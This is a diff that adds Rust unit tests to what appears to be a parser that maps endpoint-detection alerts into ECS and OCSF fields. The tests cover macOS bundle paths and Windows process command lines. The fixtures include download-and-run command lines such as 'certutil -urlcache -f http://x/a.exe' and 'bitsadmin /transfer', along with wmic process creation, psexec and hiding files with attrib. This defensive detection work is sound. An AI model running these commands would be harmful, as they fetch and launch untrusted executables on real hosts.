@@ -4839,6 +4839,109 @@ fn an_expired_signature_is_one() {
     assert_eq!(event.pointer("/evidences/0/file/signatures/0/state"), Some(&json!("Expired")), "{event:#}");
 }
 
+/// The directory of a bundle is the beginning of the path of its program.
+#[test]
+fn the_program_of_a_bundle_is_the_process_and_the_bundle_the_file() {
+    let check = |stream, record: &Value, bundle: &str, program: Option<&str>, text: &str| {
+        let event = map_to(Schema::Ecs, stream, record);
+        assert_fields(&event, &[("file.path", json!(bundle)), ("process.executable", json!(program))]);
+        let event = map_to(Schema::Ocsf, stream, record);
+        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
+        let evidence = &event["evidences"][0];
+        assert_eq!(
+            evidence["data"].get("process"),
+            program.map(|program| json!(program)).as_ref(),
+            "{text}: {event:#}"
+        );
+        let kind = if stream == Stream::Activities { "Unknown" } else { "Regular File" };
+        assert_eq!(evidence["file"]["type"], kind, "{text}: {event:#}");
+    };
+    for (bundle, line, program) in [
+        ("/Applications/Evil.app", "P -x", "/Applications/Evil.app/Contents/MacOS/Evil"),
+        ("/Applications/Evil.app", "\"P\" -x", "/Applications/Evil.app/Contents/MacOS/Evil"),
+        ("/Applications/Evil.app", "P", "/Applications/Evil.app/Contents/MacOS/other"),
+        ("/Applications/My Evil.app", "P -x", "/Applications/My Evil.app/Contents/MacOS/My Evil"),
+        ("/Applications/My Evil.app", "\"P\" -x", "/Applications/My Evil.app/Contents/MacOS/My Evil"),
+        ("/tmp/EVIL.APP", "P -x", "/tmp/EVIL.APP/Contents/MacOS/evil"),
+        ("/Library/X/Evil.xpc", "P -x", "/Library/X/Evil.xpc/Contents/MacOS/Evil"),
+        ("/Library/X/Evil.appex", "P", "/Library/X/Evil.appex/Contents/MacOS/Evil"),
+        ("/Library/X/Evil.framework", "P -x", "/Library/X/Evil.framework/Versions/A/Evil"),
+        ("/Library/X/Evil.bundle", "P -x", "/Library/X/Evil.bundle/Contents/MacOS/Evil"),
+    ] {
+        let line = line.replace('P', program);
+        for extension_type in ["Unknown", "Executable"] {
+            let info = json!({"filePath": bundle, "detectionType": "dynamic", "originatorProcess": "launchd",
+                "maliciousProcessArguments": line, "fileExtensionType": extension_type});
+            let record = threat(info, json!({"agentRealtimeInfo": {"agentOsType": "macos"}}));
+            check(Stream::Threats, &record, bundle, Some(program), &line);
+        }
+        let data = json!({"filePath": bundle, "escapedMaliciousProcessArguments": line});
+        let record = activity(4003, json!({"threatId": "9", "osFamily": "macos"}), data);
+        check(Stream::Activities, &record, bundle, Some(program), &line);
+        let name = bundle.rsplit('/').next().unwrap();
+        let record = json!({"id": "1", "analytics": {"typeValue": "DYNAMIC"},
+            "process": {"cmdLine": line, "file": {"name": name, "path": bundle}}});
+        check(Stream::UnifiedAlerts, &record, bundle, Some(program), &line);
+    }
+    // Nobody knows the program.
+    for (bundle, line) in [
+        ("/Applications/Evil.app", ""),
+        ("/Applications/Evil.APPEX", ""),
+        ("/Applications/Evil.app", "-x 1"),
+        ("/Applications/Evil.app", "/Applications/Evil.app"),
+        ("/Applications/My Evil.app", "\"/Applications/My Evil.app\" -x"),
+    ] {
+        let info = json!({"filePath": bundle, "detectionType": "dynamic", "originatorProcess": "launchd",
+            "maliciousProcessArguments": line, "fileExtensionType": "Executable"});
+        let record = threat(info, json!({"agentRealtimeInfo": {"agentOsType": "macos"}}));
+        check(Stream::Threats, &record, bundle, None, line);
+        let name = bundle.rsplit('/').next().unwrap();
+        let record = json!({"id": "1", "analytics": {"typeValue": "DYNAMIC"},
+            "process": {"cmdLine": line, "file": {"name": name, "path": bundle}}});
+        check(Stream::UnifiedAlerts, &record, bundle, None, line);
+    }
+    // Installers of Linux have such names and are programs.
+    let info = json!({"filePath": "/home/jane/VMware.bundle", "detectionType": "dynamic",
+        "maliciousProcessArguments": "/home/jane/VMware.bundle --console"});
+    let record = threat(info, json!({"agentRealtimeInfo": {"agentOsType": "linux"}}));
+    let event = map_to(Schema::Ecs, Stream::Threats, &record);
+    assert_fields(&event, &[("process.executable", json!("/home/jane/VMware.bundle"))]);
+    let process = json!({"cmdLine": "/home/jane/VMware.bundle --console",
+        "file": {"name": "VMware.bundle", "path": "/home/jane/VMware.bundle"}});
+    let record = json!({"id": "1", "assets": [{"name": "h", "osType": "LINUX"}], "process": process});
+    let event = map_to(Schema::Ecs, Stream::UnifiedAlerts, &record);
+    assert_fields(&event, &[("process.executable", json!("/home/jane/VMware.bundle"))]);
+}
+
+/// It may lack `.exe`.
+#[test]
+fn a_program_that_fetches_a_file_is_the_process() {
+    for (program, rest) in [
+        ("certutil", "-urlcache -f http://x/a.exe F"),
+        ("certutil.exe", "-urlcache -f http://x/a.exe F"),
+        ("curl", "-o F http://x/a.exe"),
+        ("bitsadmin", "/transfer j http://x/a.exe F"),
+        ("wget", "-O F http://x/a.exe"),
+        ("xcopy", "D:\\a.exe F"),
+        ("esentutl", "/y D:\\a.exe /d F"),
+        ("tar", "-xf F"),
+        ("psexec64", "\\\\ws F"),
+        ("attrib", "+h F"),
+        ("pcalua", "-a F"),
+        ("wmic", "process call create F"),
+    ] {
+        let line = format!("{program} {}", rest.replace('F', "C:\\Users\\jane\\a.exe"));
+        let info = json!({"filePath": "\\Device\\HarddiskVolume3\\Users\\jane\\a.exe", "detectionType": "dynamic",
+            "fileExtensionType": "Executable", "originatorProcess": "cmd.exe", "maliciousProcessArguments": line});
+        let record = threat(info, json!({"agentRealtimeInfo": {"agentOsType": "windows"}}));
+        let event = map_to(Schema::Ecs, Stream::Threats, &record);
+        let process = json!({"name": program, "command_line": line, "parent": {"name": "cmd.exe"}});
+        assert_fields(&event, &[("process", process), ("file.name", json!("a.exe"))]);
+        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
+        assert_eq!(event.pointer("/evidences/0/data/process"), Some(&json!(program)), "{event:#}");
+    }
+}
+
 /// Interfaces between the machines of one maker, which have MAC addresses and no address of a network.
 #[test]
 fn an_interface_without_an_address_lends_no_device_its_mac() {
